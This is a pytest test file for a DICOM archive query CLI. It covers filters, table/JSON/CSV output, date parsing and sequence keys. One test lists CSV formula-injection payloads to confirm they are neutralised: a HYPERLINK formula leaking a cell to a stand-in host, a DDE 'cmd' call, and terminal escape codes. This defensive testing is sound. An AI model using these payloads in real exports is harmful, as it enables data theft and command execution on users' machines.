from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
import typer

from pacs_sdk.cli.matches import print_matches
from pacs_sdk.cli.options import Level
from pacs_sdk.cli.query import COLUMNS, day_of
from pacs_sdk.core import DicomDataset, DicomTag
from pacs_sdk.core.byte_source import MemoryBytes
from pacs_sdk.encoding import EXPLICIT_VR_LITTLE_ENDIAN, encode_dataset, instance_from_dataset
from pacs_sdk.integration.pacs import Pacs
from pacs_sdk.network import DicomServer, Exchange, Peer, ServerConfig, SupportedContext
from pacs_sdk.network.dimse import CFindRQ, CFindRSP, Status
from pacs_sdk.services import InformationModel
from tests.cli.helpers import address, failed, pacs, refused, succeeded

STUDIES = [
    {"StudyInstanceUID": "1.1", "PatientName": "Doe^John", "PatientID": "P1",
     "StudyDate": "20250110", "Modality": "CT", "StudyDescription": "CT Head"},
    {"StudyInstanceUID": "1.2", "PatientName": "Doerr^Jane", "PatientID": "P2",
     "StudyDate": "20250220", "Modality": "MR", "StudyDescription": "Knee"},
    {"StudyInstanceUID": "1.3", "PatientName": "Müller^Jörg", "PatientID": "P3",
     "StudyDate": "20241231", "Modality": "CT", "StudyDescription": "CT Thorax"},
]  # fmt: skip


@pytest.fixture(scope="module")
def peer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Peer]:
    """An archive with three studies."""
    with Pacs.embedded(tmp_path_factory.mktemp("query")) as running:
        for study in STUDIES:
            uid = study["StudyInstanceUID"]
            made = DicomDataset(
                None, SpecificCharacterSet="ISO_IR 192", SOPClassUID="1.2.840.10008.5.1.4.1.1.2",
                SeriesInstanceUID=f"{uid}.1", SOPInstanceUID=f"{uid}.1.1", SeriesNumber=1,
                StudyTime="103015", **study,
                RequestAttributesSequence=[
                    DicomDataset(None, RequestedProcedureID=f"R{uid}").pydicom
                ],
            )  # fmt: skip
            running.archive.store(instance_from_dataset(made).unwrap()).unwrap()
        yield running.peer


@pytest.mark.parametrize(
    ("arguments", "studies"),
    [
        ([], ["1.2", "1.1", "1.3"]),
        (["--patient", "Doe"], ["1.2", "1.1"]),
        (["--patient", "Doe^John"], ["1.1"]),
        (["--patient", "*jane"], ["1.2"]),
        (["--patient", "Mü*"], ["1.3"]),
        (["--patient", "Mueler", "--fuzzy"], ["1.3"]),
        (["--id", "P2"], ["1.2"]),
        (["--since", "2025-01-01"], ["1.2", "1.1"]),
        (["--until", "20250131"], ["1.1", "1.3"]),
        (["--since", "2025-01-01", "--until", "2025-01-31"], ["1.1"]),
        (["--modality", "ct"], ["1.1", "1.3"]),
        (["--modality", "CT", "--modality", "MR"], ["1.2", "1.1", "1.3"]),
        (["--description", "Head"], ["1.1"]),
        (["--study", "1.3"], ["1.3"]),
        (["--patient", "Doe", "--since", "2025-01-01", "--modality", "CT"], ["1.1"]),
        (["--since", "today"], []),
    ],
)
def test_studies_are_found_newest_first(
    peer: Peer, arguments: list[str], studies: list[str]
) -> None:
    """Options are what people say; a name without wild card is the beginning of a name."""
    text = succeeded(pacs("query", *address(peer), *arguments))
    assert [line.rpartition("\t")[2] for line in text.splitlines()] == studies


def test_a_line_is_written_for_people(peer: Peer) -> None:
    """Dates have their dashes."""
    text = succeeded(pacs("query", *address(peer), "--id", "P1"))
    assert text == "2025-01-10\tDoe^John\tP1\tCT\tCT Head\t\t1\t1\t1.1\n"


def test_a_terminal_sees_a_table(peer: Peer, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal the matches are a table with plain headings and a count."""
    monkeypatch.setattr("pacs_sdk.cli.output.is_terminal", lambda stream: True)
    text = succeeded(pacs("query", *address(peer), "--patient", "Müller"))
    assert "1 match" in text
    assert "Patient" in text
    assert "StudyDescription" not in text
    assert "Müller^Jörg" in text


def test_json_and_csv_are_as_the_peer_sent_it(peer: Peer) -> None:
    """Programs get keywords, and values as DICOM has them."""
    (match,) = json.loads(succeeded(pacs("query", *address(peer), "--id", "P1", "--json")))
    assert match["StudyDate"] == "20250110"
    assert match["NumberOfStudyRelatedInstances"] == 1
    rows = list(csv.DictReader(io.StringIO(succeeded(pacs("query", *address(peer), "--csv")))))
    assert [row["PatientName"] for row in rows] == ["Doerr^Jane", "Doe^John", "Müller^Jörg"]
    assert set(rows[0]) == set(COLUMNS[Level.STUDY])
    text = succeeded(pacs("find", *address(peer), "--csv", "-k", "PatientID=P1", "-k", "StudyDate"))
    assert text == "PatientID,StudyDate\nP1,20250110\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "' =1+1"),
        ("\x1b[2Jname\x9b1m", " [2Jname 1m"),
        ("-inf", "'-inf"),
        ("-0.5\\+1e-3", "-0.5\\+1e-3"),
        ("Doe-Smith=東^京", "Doe-Smith=東^京"),
        ("two\nlines", "two\nlines"),
        ("", ""),
    ],
)
def test_a_cell_of_csv_is_no_formula(
    value: str, cell: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a sender wrote is neither carried out by a spreadsheet nor by a terminal."""
    match, tag = DicomDataset(StudyComments=value), DicomTag.of("StudyComments")
    print_matches([match], [tag], as_json=False, as_csv=True)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows == [["StudyComments"], [cell]]


@pytest.mark.parametrize(
    ("level", "arguments", "count"),
    [
        ("patient", [], 3),
        ("study", ["--limit", "2"], 2),
        ("series", ["--study", "1.1", "--modality", "CT"], 1),
        ("series", ["--modality", "CT"], 2),
        ("image", ["--study", "1.1"], 1),
        ("image", ["--series", "1.2.1"], 1),
    ],
)
def test_each_level_is_listed(peer: Peer, level: str, arguments: list[str], count: int) -> None:
    """Every level has its columns; what is above need not be named."""
    text = succeeded(pacs("query", *address(peer), "--level", level, *arguments))
    lines = text.splitlines()
    assert len(lines) == count
    assert {line.count("\t") + 1 for line in lines} == {len(COLUMNS[Level(level.upper())])}


def test_the_columns_exist() -> None:
    """Every column is an attribute."""
    for columns in COLUMNS.values():
        for keyword in columns:
            assert DicomTag.of(keyword).keyword == keyword


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2025-01-31", dt.date(2025, 1, 31)),
        ("20250131", dt.date(2025, 1, 31)),
        ("today", dt.date(2025, 3, 1)),
        ("Yesterday", dt.date(2025, 2, 28)),
        ("7d", dt.date(2025, 2, 22)),
        ("0d", dt.date(2025, 3, 1)),
    ],
)
def test_days_are_read(text: str, day: dt.date) -> None:
    """ISO 8601, DICOM's form, and a few words."""
    assert day_of(text, dt.date(2025, 3, 1)) == day


@pytest.mark.parametrize("text", ["", "soon", "2025-02-30", "31.1.2025", "99999d", "-1d"])
def test_what_is_no_day_is_bad_usage(text: str) -> None:
    """The message says how a day is written."""
    with pytest.raises(typer.BadParameter, match="is no day: write 2025-01-31"):
        day_of(text, dt.date(2025, 3, 1))


def test_bad_usage_is_refused_before_anybody_is_asked() -> None:
    """Two formats, a range that ends before it begins, and a limit of nothing."""
    assert "choose one of" in refused(pacs("query", "localhost", 104, "--json", "--csv"))
    line = refused(
        pacs("query", "localhost", 104, "--since", "2025-02-01", "--until", "2025-01-01")
    )
    assert "2025-02-01 is after 2025-01-01" in line
    refused(pacs("query", "localhost", 104, "--limit", "0"))
    refused(pacs("find", "localhost", 104, "--model", "root"))


class _MatchingNothing:
    """Answers with every study, whatever is asked, and negotiates nothing: many archives do so."""

    def supported_contexts(self) -> list[SupportedContext]:
        """List Study Root FIND."""
        return [SupportedContext(InformationModel.STUDY_ROOT.find, [EXPLICIT_VR_LITTLE_ENDIAN.uid])]

    def handle(self, exchange: Exchange) -> None:
        """Answer."""
        assert isinstance(exchange.request, CFindRQ)
        for study in STUDIES:
            answer = DicomDataset(
                None,
                StudyInstanceUID=study["StudyInstanceUID"],
                ModalitiesInStudy=study["Modality"],
            )
            data = encode_dataset(answer, EXPLICIT_VR_LITTLE_ENDIAN).unwrap()
            uid = exchange.request.affected_sop_class_uid
            pending = CFindRSP(exchange.request.message_id, Status.PENDING, uid)
            exchange.respond(pending, MemoryBytes(data))
        exchange.respond_status(Status.SUCCESS)


@contextmanager
def matching_nothing() -> Iterator[Peer]:
    """Run such an archive."""
    with DicomServer(ServerConfig(port=0), [_MatchingNothing()]) as server:
        yield Peer("127.0.0.1", server.port)


def test_other_modalities_are_left_out_where_the_peer_sends_them() -> None:
    """An archive that returns Modalities in Study and doesn't match it is no reason for noise."""
    with matching_nothing() as peer:
        result = pacs("query", *address(peer), "--modality", "MR")
    assert [line.rpartition("\t")[2] for line in succeeded(result).splitlines()] == ["1.2"]
    assert "left out 2 matches of other modalities" in result.stderr


def test_what_the_peer_does_not_negotiate_is_told() -> None:
    """Fuzzy names from a peer that has none are a failure in words."""
    with matching_nothing() as peer:
        line = failed(pacs("query", *address(peer), "--patient", "Doe", "--fuzzy"))
    assert "does not agree to fuzzy matching of names" in line


def test_keys_in_sequences(peer: Peer) -> None:
    """An attribute in the item of a sequence is matched and shown, and is in the JSON."""
    key = "RequestAttributesSequence.RequestedProcedureID"
    arguments = ("--level", "series", "-k", "StudyInstanceUID", "-k")
    text = succeeded(pacs("find", *address(peer), *arguments, f"{key}=R1.2"))
    assert text == "1.2\tR1.2\n"
    text = succeeded(pacs("find", *address(peer), *arguments, f"(0040,0275).{key[26:]}", "--csv"))
    assert text.splitlines()[0] == f"StudyInstanceUID,{key}"
    assert text.splitlines()[1:] == [f"{one},R{one}" for one in ("1.1", "1.2", "1.3")]
    (match,) = json.loads(
        succeeded(pacs("find", *address(peer), *arguments, f"{key}=R1.3", "--json"))
    )
    assert match["RequestAttributesSequence"] == [{"RequestedProcedureID": "R1.3"}]
    for wrong in ("StudyDate.StudyTime=1", "NoSuch.StudyTime", f"{key[:25]}.NoSuch=1"):
        refused(pacs("find", *address(peer), "-k", wrong))


def test_models_are_chosen(peer: Peer) -> None:
    """``pacs find --model`` asks in any of the three models."""
    for model in ("patient", "patient-study-only"):
        arguments = ("--model", model, "-k", "PatientID=P1", "-k", "StudyInstanceUID")
        assert succeeded(pacs("find", *address(peer), *arguments)) == "P1\t1.1\n"
